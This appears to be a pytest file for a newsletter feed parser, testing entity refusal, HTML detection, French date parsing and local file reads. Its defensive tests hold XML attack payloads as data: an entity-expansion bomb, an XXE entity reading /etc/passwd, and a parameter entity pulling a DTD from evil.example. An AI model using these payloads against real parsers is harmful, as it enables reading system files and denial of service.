"""Parsing feeds from bytes, and reading local ones: pure checks without a network."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import httpx
import pytest

from newsletter.collect.dates import parse_french_date, parse_numeric_date
from newsletter.collect.fetch import FetchLimits, fetch, read_local
from newsletter.collect.parse import looks_like_html, parse, refuse_entity_definitions
from newsletter.domain.errors import FetchError, ParseError

URL = "https://example.org/feed/"


def rss(item: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0"><channel>'
        f"<title>T</title><link>https://example.org/</link>{item}</channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
        '<!-- a comment first --><!doctype rss [ <!entity a "x"> ]>',
    ],
)
def test_entity_definitions_are_refused(prolog: str) -> None:
    """Internal, external and parameter entities are refused before feedparser sees them."""
    with pytest.raises(ParseError, match="declares entities"):
        parse(rss("<item><title>&a;</title></item>", prolog), URL)


def test_entity_definitions_in_utf16_are_refused() -> None:
    """The check reads UTF-16 documents too."""
    body = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "b">]><rss/>'

    with pytest.raises(ParseError):
        refuse_entity_definitions(body.encode("utf-16"))


def test_doctype_without_entities_and_entity_text_in_content_are_accepted() -> None:
    """An RSS 0.91 DOCTYPE is harmless, and "<!ENTITY" inside an article is just text."""
    prolog = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    item = (
        "<item><title>XML</title><link>https://example.org/x</link>"
        '<description><![CDATA[<pre><!ENTITY a "b"></pre>]]></description></item>'
    )

    parsed = parse(rss(item, prolog), URL)

    assert [entry["title"] for entry in parsed.entries] == ["XML"]


def test_html_page_is_not_a_feed() -> None:
    """An HTML page (a site's home page instead of its feed) is reported as such."""
    page = b"<!DOCTYPE html><html><head><title>Home</title></head><body>Hi</body></html>"

    with pytest.raises(ParseError, match="not a feed: the URL returns an HTML page"):
        parse(page, URL, "text/html; charset=utf-8")
    assert looks_like_html(page)


def test_invalid_xml_without_entries_is_an_error() -> None:
    """Broken XML from which nothing can be read says so."""
    with pytest.raises(ParseError, match="invalid XML"):
        parse(b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>x</ti', URL)


def test_empty_body_is_an_error() -> None:
    """An empty 200 response is not a feed."""
    with pytest.raises(ParseError, match="empty"):
        parse(b"  \n", URL)


@pytest.mark.parametrize(
    "body",
    [
        b"  \n",
        b"<!DOCTYPE html><html><body>Hi</body></html>",
        b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>x</ti',
        rss("", '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    ],
)
def test_parse_errors_name_the_feed(body: bytes) -> None:
    """Every refusal says which feed it is about: the URL travels with the error."""
    with pytest.raises(ParseError) as raised:
        parse(body, URL)

    assert raised.value.url == URL


def test_fetch_errors_from_disk_name_the_file(tmp_path: Path) -> None:
    """A listed feed that is a missing file: the error carries its location, no HTTP status."""
    missing = (tmp_path / "missing.xml").as_uri()

    async def attempt() -> None:
        async with httpx.AsyncClient() as client:
            await fetch(client, missing, FetchLimits(), listed_url=missing)

    with pytest.raises(FetchError) as raised:
        asyncio.run(attempt())

    assert (raised.value.url, raised.value.status) == (missing, None)
    assert "no such file" in str(raised.value)


def test_valid_feed_without_entries_is_fine() -> None:
    """A feed with no items yet is a feed."""
    assert parse(rss(""), URL).entries == []


def test_french_dates_reach_the_entries() -> None:
    """feedparser alone gives no date for French month names; the registered handler does."""
    item = "<item><title>t</title><link>https://e.org/1</link><pubDate>{}</pubDate></item>"

    parsed = parse(rss(item.format("mardi 3 décembre 2024 10:00 CET")), URL)

    assert tuple(parsed.entries[0]["published_parsed"])[:5] == (2024, 12, 3, 9, 0)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("jeudi 20 juin 2024 08:30:00 +0200", (2024, 6, 20, 6, 30)),
        ("20 juin 2024", (2024, 6, 20, 0, 0)),
        ("1er août 2024 à 08h30", (2024, 8, 1, 8, 30)),
        ("Ven, 1 Févr 2025 23:15 -0100", (2025, 2, 2, 0, 15)),
        ("20/06/2024 08:30", (2024, 6, 20, 8, 30)),
    ],
)
def test_french_and_numeric_dates(text: str, expected: tuple[int, ...]) -> None:
    """French month names, "1er", "08h30", and day-first numeric dates, as UTC."""
    parsed = parse_french_date(text) or parse_numeric_date(text)

    assert parsed is not None
    assert tuple(parsed)[:5] == expected


def test_unknown_dates_are_left_to_other_handlers() -> None:
    """Text that is not a French or numeric date gives None, not a wrong date."""
    assert parse_french_date("Thu, 20 Jun 2024 08:30:00 GMT") is None
    assert parse_french_date("31 février 2024") is None
    assert parse_numeric_date("2024-06-20") is None
    assert isinstance(parse_numeric_date("01/02/2024"), time.struct_time)


def test_local_feed_is_read_with_the_size_cap(tmp_path: Path) -> None:
    """A feed on disk is read through a file: URL or a path, within max_bytes."""
    feed = tmp_path / "feed.xml"
    feed.write_bytes(b"x" * 2048)

    assert read_local(feed.as_uri(), 4096).body == b"x" * 2048
    with pytest.raises(FetchError, match="larger than 1024 bytes"):
        read_local(str(feed), 1024)
    with pytest.raises(FetchError, match="no such file"):
        read_local(str(tmp_path / "missing.xml"), 1024)
